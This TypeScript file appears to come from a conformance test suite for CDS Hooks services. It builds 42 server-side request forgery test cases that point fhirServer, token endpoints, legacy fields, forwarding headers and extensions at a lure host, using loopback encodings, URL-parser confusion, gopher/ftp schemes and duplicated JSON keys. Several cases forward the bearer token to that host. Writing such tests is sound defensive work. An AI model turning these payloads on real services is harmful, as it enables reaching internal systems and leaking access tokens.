/** `fhirServer` and everything else in a request that an incautious service would take for a server to ask. */
import type { Body } from '../target.ts';
import { type AddressAttack, type Lure, redirect, ssrf } from './address-attack.ts';

/** No prefetch, so that everything must be read; the token that it would be read with. */
const mustRead = ({ prefetch: _, ...request }: Body, { authorization }: Lure, fhirServer: unknown): Body => ({
  ...request,
  fhirServer,
  fhirAuthorization: authorization,
});

const server = (
  id: string,
  what: string,
  address: (lure: Lure) => unknown,
  source = redirect,
): AddressAttack => ({
  ...{ id, rule: `A foreign fhirServer is not asked: ${what}.`, source },
  bend: (request, lure) => ({ body: mustRead(request, lure, address(lure)) }),
});

const parsing = 'WHATWG URL §4.4: one address has many spellings';
const confusion = 'Tsai, A New Era of SSRF (2017): two parsers read one URL differently';

const port = ({ canary }: Lure): number => canary.port;
const goodHost = ({ goodBase }: Lure): string => new URL(goodBase).host;

export const serverAttacks: readonly AddressAttack[] = [
  server('ssrf-01', 'loopback by IPv4', ({ host }) => `http://${host}/fhir`),
  server('ssrf-02', 'loopback by name', (lure) => `http://localhost:${port(lure)}/fhir`),
  server('ssrf-03', 'loopback by IPv6', (lure) => `http://[::1]:${port(lure)}/fhir`),
  server('ssrf-04', 'IPv4 as one decimal number', (lure) => `http://2130706433:${port(lure)}/fhir`, parsing),
  server(
    'ssrf-05',
    'IPv4 as one hexadecimal number',
    (lure) => `http://0x7f000001:${port(lure)}/fhir`,
    parsing,
  ),
  server('ssrf-06', 'IPv4 in octal', (lure) => `http://0177.0.0.01:${port(lure)}/fhir`, parsing),
  server('ssrf-07', 'IPv4 with two parts', (lure) => `http://127.1:${port(lure)}/fhir`, parsing),
  server('ssrf-08', 'the unspecified IPv4 address', (lure) => `http://0.0.0.0:${port(lure)}/fhir`, ssrf),
  server('ssrf-09', 'the unspecified IPv4 address as 0', (lure) => `http://0:${port(lure)}/fhir`, parsing),
  server('ssrf-10', 'the unspecified IPv6 address', (lure) => `http://[::]:${port(lure)}/fhir`, ssrf),
  server('ssrf-11', 'IPv4 mapped into IPv6', (lure) => `http://[::ffff:127.0.0.1]:${port(lure)}/fhir`, ssrf),
  server(
    'ssrf-12',
    'IPv4 mapped into IPv6, in hexadecimal',
    (lure) => `http://[::ffff:7f00:1]:${port(lure)}/fhir`,
    ssrf,
  ),
  server('ssrf-13', 'another loopback address', (lure) => `http://127.8.8.8:${port(lure)}/fhir`, ssrf),
  server('ssrf-14', 'full-width digits', (lure) => `http://１２７.０.０.１:${port(lure)}/fhir`, parsing),
  server('ssrf-15', 'circled digits', (lure) => `http://①②⑦.⓪.⓪.①:${port(lure)}/fhir`, parsing),
  server('ssrf-16', 'a percent-encoded host', (lure) => `http://%31%32%37.0.0.1:${port(lure)}/fhir`, parsing),
  server(
    'ssrf-17',
    'a host with a dot at its end',
    (lure) => `http://localhost.:${port(lure)}/fhir`,
    parsing,
  ),
  server('ssrf-18', 'a host in capitals', (lure) => `HTTP://LOCALHOST:${port(lure)}/fhir`, parsing),
  server(
    'ssrf-19',
    'a name below localhost',
    (lure) => `http://ehr.localhost:${port(lure)}/fhir`,
    'RFC 6761 §6.3',
  ),
  server('ssrf-20', 'https', ({ host }) => `https://${host}/fhir`, ssrf),
  server('ssrf-21', 'a good host as user', (lure) => `http://${goodHost(lure)}@${lure.host}/fhir`, confusion),
  server(
    'ssrf-22',
    'a good host as user and password',
    (lure) => `http://${goodHost(lure).replace(/:.*/, '')}:443@${lure.host}/fhir`,
    confusion,
  ),
  server(
    'ssrf-23',
    'a good base with an @ behind it',
    (lure) => `${new URL(lure.goodBase).origin}@${lure.host}/fhir`,
    confusion,
  ),
  server(
    'ssrf-24',
    'a backslash before the good host',
    (lure) => `http://${lure.host}\\@${goodHost(lure)}/fhir`,
    confusion,
  ),
  server(
    'ssrf-25',
    'a good base in the fragment',
    ({ host, goodBase }) => `http://${host}/fhir#${goodBase}`,
    confusion,
  ),
  server(
    'ssrf-26',
    'a good base in the query',
    ({ host, goodBase }) => `http://${host}/fhir?${goodBase}`,
    confusion,
  ),
  server(
    'ssrf-27',
    'a good base in the path',
    ({ host, goodBase }) => `http://${host}/${goodBase}`,
    confusion,
  ),
  server('ssrf-28', 'no scheme', ({ host }) => `//${host}/fhir`, parsing),
  server('ssrf-29', 'no slashes', ({ host }) => `http:${host}/fhir`, parsing),
  server('ssrf-30', 'backslashes for slashes', ({ host }) => `http:\\\\${host}\\fhir`, parsing),
  server('ssrf-31', 'a tab and a newline inside', ({ host }) => `ht\ttp://\n${host}/fhir`, parsing),
  server('ssrf-32', 'white space around it', ({ host }) => ` http://${host}/fhir\n`, parsing),
  server('ssrf-33', 'gopher', ({ host }) => `gopher://${host}/_GET%20/`, ssrf),
  server('ssrf-34', 'ftp', ({ host }) => `ftp://${host}/fhir`, ssrf),
  server(
    'ssrf-35',
    'a list with a good one first',
    ({ host, goodBase }) => [goodBase, `http://${host}/fhir`],
    confusion,
  ),
  server(
    'ssrf-36',
    'an object that says it is one',
    ({ host }) => ({ href: `http://${host}/fhir`, url: `http://${host}/fhir` }),
    confusion,
  ),
  {
    id: 'ssrf-37',
    rule: 'A foreign fhirServer is not asked: named twice, the good one first.',
    source: 'RFC 8259 §4: which of two equal names counts is left open',
    bend: (request, lure) => ({ body: doubled(request, lure, [lure.goodBase, `http://${lure.host}/fhir`]) }),
  },
  {
    id: 'ssrf-38',
    rule: 'A foreign fhirServer is not asked: named twice, the good one last.',
    source: 'RFC 8259 §4: which of two equal names counts is left open',
    bend: (request, lure) => ({ body: doubled(request, lure, [`http://${lure.host}/fhir`, lure.goodBase]) }),
  },
  {
    id: 'ssrf-39',
    rule: 'An older spelling of the request leads nowhere: fhirUser, oauth and preFetchServer of 0.x are not asked.',
    source: 'CDS Hooks 0.1 (oauth, redirect)',
    bend: ({ prefetch: _, ...request }, { host, authorization }) => {
      const address = `http://${host}/fhir`;
      const oauth = { ...authorization, token: authorization.access_token, redirect: address };
      return {
        body: {
          ...request,
          oauth,
          redirect: address,
          preFetchServer: address,
          fhirUser: `${address}/User/1`,
        },
      };
    },
  },
  {
    id: 'ssrf-40',
    rule: 'Addresses beside the token (its issuer, introspection, endpoints) are not asked.',
    source: ssrf,
    bend: (request, lure) => {
      const address = `http://${lure.host}/oauth`;
      const more = {
        iss: address,
        token_endpoint: address,
        introspection_endpoint: address,
        jwks_uri: address,
      };
      const fhirAuthorization = { ...lure.authorization, ...more };
      return { body: { ...mustRead(request, lure, lure.goodBase), fhirAuthorization } };
    },
  },
  {
    id: 'ssrf-41',
    rule: 'Host, Forwarded and Referer headers do not say whom to ask.',
    source: 'OWASP, Testing for Host Header Injection; RFC 7239 §8',
    bend: (request, { host }) => ({
      body: request,
      headers: {
        'x-forwarded-host': host,
        'x-forwarded-server': host,
        'x-original-url': `http://${host}/`,
        'x-rewrite-url': `http://${host}/`,
        'x-callback-url': `http://${host}/`,
        forwarded: `host="${host}";proto=http`,
        referer: `http://${host}/`,
        origin: `http://${host}`,
        link: `<http://${host}/>; rel="next"`,
      },
    }),
  },
  {
    id: 'ssrf-42',
    rule: 'Extensions of the request are not asked.',
    source: 'CDS Hooks 2.0, Extensions',
    bend: (request, { host }) => {
      const address = `http://${host}/x`;
      const extension = {
        'com.example.callback': { url: address },
        'com.example.fhir': { fhirServer: address },
      };
      return { body: { ...request, extension } };
    },
  },
];

/** JSON with `fhirServer` twice. */
function doubled(request: Body, lure: Lure, [first, second]: readonly [string, string]): string {
  const rest = JSON.stringify(mustRead(request, lure, second));
  return `{"fhirServer":${JSON.stringify(first)},${rest.slice(1)}`;
}
